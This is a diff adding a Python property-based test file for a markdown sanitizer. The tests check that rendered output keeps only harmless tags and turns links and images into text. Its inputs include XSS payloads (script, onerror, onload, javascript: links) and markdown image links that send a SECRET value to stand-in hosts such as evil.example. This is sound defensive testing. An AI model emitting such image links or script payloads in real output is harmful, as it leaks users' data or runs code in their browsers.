@@ -1,0 +1,119 @@
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from ui.web import safe
+
+HARMLESS = "div span p br hr em strong s code pre blockquote ul ol li h1 h2 h3 h4 h5 h6 table thead tbody tr th td"
+ATTRIBUTES = {"class", "start", "style"}
+TRICKY = """
+![a](http://e/?d=1) [a](http://e) [a]: <http://e> <img src=x onerror=y> <a href=//e> ![ ]( ](javascript:x) www.e.com
+``` ` ** _ ~~ | --- # > - 1. $5 $$ :red[a] :material/home: :smile: \\ & &lt; &#60; {{x}} <!-- --> <? ]]>
+<script>alert(1)</script> <style> <svg/onload=x> data:text/html,x a b 中
+"""
+PIECES = st.sampled_from(TRICKY.split())
+TEXTS = st.one_of(
+    st.text(), st.lists(st.one_of(PIECES, st.sampled_from(["\n", "\n\n", " ", "    ", "\t"])), max_size=30).map("".join)
+)
+
+
+class Reading(HTMLParser):
+    """What a browser makes of HTML: its elements, attributes and text."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.text = ""
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+    def handle_comment(self, data: str) -> None:
+        raise AssertionError(data)
+
+
+@given(TEXTS)
+@example("![a](https://evil/?d=SECRET)")
+@example("![a][r]\n\n[r]: https://evil/?d=SECRET")
+@example("| a |\n|:-:|\n| ![x](http://e) |")
+@example('```"onload=x <b>\n</code><img src=x>\n```')
+def test_markdown_never_loads_links_or_runs_anything(text: str) -> None:
+    for tag, attributes in Reading(safe.html(text)).tags:
+        assert tag in HARMLESS.split()
+        assert set(attributes) <= ATTRIBUTES
+        assert (attributes.get("style") or "text-align:left") in {
+            f"text-align:{side}" for side in ("left", "center", "right")
+        }
+
+
+@given(TEXTS)
+@example('<>&"{{}} &amp; \\{{ $5 and $6')
+def test_verbatim_text_comes_back_byte_for_byte(text: str) -> None:
+    shown = Reading(safe.verbatim(text, "quote")).text
+    assert shown == text.replace("\x00", "")
+
+
+@given(st.text(st.sampled_from("<>&\"'{}=;: abc中é$%@/?,"), min_size=1).map(str.strip).filter(bool))
+def test_marks_that_are_not_markdown_are_shown_as_written(text: str) -> None:
+    assert Reading(safe.html("x " + text)).text.strip() == "x " + text
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("![logo](https://evil.example/?d=SECRET)", "logo (https://evil.example/?d=SECRET)"),
+        ("[read](https://evil.example/a)", "read (https://evil.example/a)"),
+        ("<https://evil.example/a>", "https://evil.example/a"),
+        ("<me@mail.example>", "me@mail.example"),
+        ("[a][r]\n\n[r]: https://evil.example", "[a][r]\n[r]: https://evil.example"),
+        ("<img src=https://evil.example>", "<img src=https://evil.example>"),
+        (
+            "It costs $5 and $6, :red[now] :material/home: &amp; {{x}}",
+            "It costs $5 and $6, :red[now] :material/home: &amp; {{x}}",
+        ),
+    ],
+)
+def test_addresses_are_text(text: str, shown: str) -> None:
+    assert Reading(safe.html(text)).text.strip() == shown
+
+
+def test_markdown_is_still_markdown() -> None:
+    tags = [tag for tag, _ in Reading(safe.html("# A\n\n**b** `c`\n\n- d\n\n| e |\n| - |\n| f |\n\n```\ng\n```")).tags]
+    assert {"h1", "strong", "code", "li", "table", "pre"} <= set(tags)
+
+
+@given(TEXTS, st.integers(0, 40), st.integers(0, 40))
+def test_a_marked_document_is_the_whole_document(text: str, start: int, length: int) -> None:
+    text = text.replace("\x00", "")
+    page = Reading(safe.marked(text, start, start + length, before=3))
+    _heading, _, rest = (
+        page.text.partition(" characters before") if ("summary", {}) in page.tags else ("", "", page.text)
+    )
+    assert rest == text
+    assert [tag for tag, _ in page.tags].count("mark") == 1
+
+
+@given(TEXTS)
+def test_a_label_is_one_line_without_markdown_or_icons(text: str) -> None:
+    label = safe.label(text, limit=60)
+    assert "\n" not in label
+    bare = label.replace("\\\\", "")
+    for sign in "![]()<>*_`$#~|":
+        assert sign not in bare.replace("\\" + sign, "")
+    assert ":" not in label.replace(":\u2060", "")
+    assert not re.search(r"-[\\]*>|>[\\]*=|-[\\]*-", label)
+
+
+def test_surrogates_are_replaced() -> None:
+    assert "\ufffd" in safe.html("a\ud800b") and "\ufffd" in safe.verbatim("a\ud800b", "quote")
+    assert "\ufffd" in safe.label("a\ud800b")
